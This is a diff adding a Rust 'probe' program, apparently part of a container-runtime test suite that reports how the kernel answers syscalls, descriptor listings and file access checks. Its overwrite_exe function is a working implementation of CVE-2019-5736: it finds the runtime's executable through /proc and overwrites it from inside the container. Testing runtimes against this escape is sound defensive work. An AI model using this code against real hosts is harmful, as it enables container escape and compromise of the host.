@@ -1,0 +1,123 @@
+//! The program inside the container, for what busybox cannot do. It is this same static binary, bind-free at `/probe`.
+//!
+//! It prints what the kernel answers, and never judges.
+
+use crate::kernel;
+use nix::errno::Errno;
+use std::{
+    fs::{self, File},
+    io::{Read, Seek, SeekFrom, Write},
+    os::fd::AsRawFd,
+    process::ExitCode,
+};
+
+pub(crate) fn main(words: &[String]) -> ExitCode {
+    let words: Vec<_> = words.iter().map(String::as_str).collect();
+    match words.as_slice() {
+        ["syscall", number, args @ ..] => syscalls(&[&[*number], args].concat()),
+        ["fds"] => fds(),
+        ["exe", marker] => return overwrite_exe(marker),
+        ["readable", names @ ..] => readable(names),
+        ["writable", names @ ..] => writable(names),
+        _ => {
+            eprintln!("probe: what is {words:?}?");
+            return ExitCode::from(2);
+        }
+    }
+    ExitCode::SUCCESS
+}
+
+/// Makes system calls one after the other, `NUMBER,ARG,ARG…` each; prints one line each: the result, or the errno's name.
+fn syscalls(calls: &[&str]) {
+    for call in calls {
+        let mut words = [0_u64; 7];
+        for (place, word) in words.iter_mut().zip(call.split(',')) {
+            *place = word.parse().unwrap();
+        }
+        let [number, args @ ..] = words;
+        match kernel::syscall(i64::try_from(number).unwrap(), args) {
+            Ok(value) => println!("{value}"),
+            Err(errno) => println!("{errno:?}"),
+        }
+    }
+}
+
+/// Prints the open descriptors and what they are.
+fn fds() {
+    let directory = fs::read_dir("/proc/self/fd").unwrap();
+    let mut lines: Vec<_> = directory
+        .filter_map(|entry| {
+            let entry = entry.unwrap();
+            let link = fs::read_link(entry.path()).ok()?.to_string_lossy().into_owned();
+            // The descriptor of this very listing.
+            (!link.contains("/proc/") || !link.ends_with("/fd"))
+                .then(|| format!("{} {link}", entry.file_name().to_string_lossy()))
+        })
+        .collect();
+    lines.sort();
+    println!("{}", lines.join("\n"));
+}
+
+fn tell(name: &str, answer: std::io::Result<()>) {
+    match answer {
+        Ok(()) => println!("{name}: ok"),
+        Err(error) => println!("{name}: {:?}", Errno::from_raw(error.raw_os_error().unwrap_or(0))),
+    }
+}
+
+/// Opens each file and reads some of it.
+fn readable(names: &[&str]) {
+    for name in names {
+        tell(name, File::open(name).and_then(|mut file| file.read(&mut [0; 8192]).map(|_| ())));
+    }
+}
+
+/// Opens each file for writing.
+fn writable(names: &[&str]) {
+    for name in names {
+        tell(name, File::options().write(true).open(name).map(|_| ()));
+    }
+}
+
+/// CVE-2019-5736: finds another process of this pid namespace that is the runtime, holds its executable, and writes to it
+/// when it is no longer busy. Says `held` in the file `marker` once it has a hold, then `wrote` or the refusal.
+fn overwrite_exe(marker: &str) -> ExitCode {
+    let mut told = File::create(marker).unwrap();
+    let own = fs::read_link("/proc/self/exe").unwrap();
+    let held = loop {
+        let all = fs::read_dir("/proc").unwrap();
+        let pids = all.filter_map(|entry| entry.unwrap().file_name().to_str()?.parse::<i32>().ok());
+        let exe = pids.filter(|pid| *pid != 1).find_map(|pid| {
+            let path = format!("/proc/{pid}/exe");
+            let target = fs::read_link(&path).ok()?;
+            (target != own).then(|| File::open(&path).ok())?
+        });
+        if let Some(exe) = exe {
+            break exe;
+        }
+        if fs::exists("/out/give-up").unwrap() {
+            writeln!(told, "never").unwrap();
+            return ExitCode::SUCCESS;
+        }
+        std::thread::yield_now();
+    };
+    writeln!(told, "held").unwrap();
+    let path = format!("/proc/self/fd/{}", held.as_raw_fd());
+    let answer = loop {
+        let attempt = File::options().write(true).open(&path).and_then(|mut file| {
+            file.seek(SeekFrom::Start(0))?;
+            file.write_all(b"#!/evil\n")
+        });
+        match attempt {
+            Err(error) if error.raw_os_error() == Some(libc::ETXTBSY) && !fs::exists("/out/give-up").unwrap() => {
+                std::thread::yield_now();
+            }
+            other => break other,
+        }
+    };
+    match answer {
+        Ok(()) => writeln!(told, "wrote").unwrap(),
+        Err(error) => writeln!(told, "{error}").unwrap(),
+    }
+    ExitCode::SUCCESS
+}
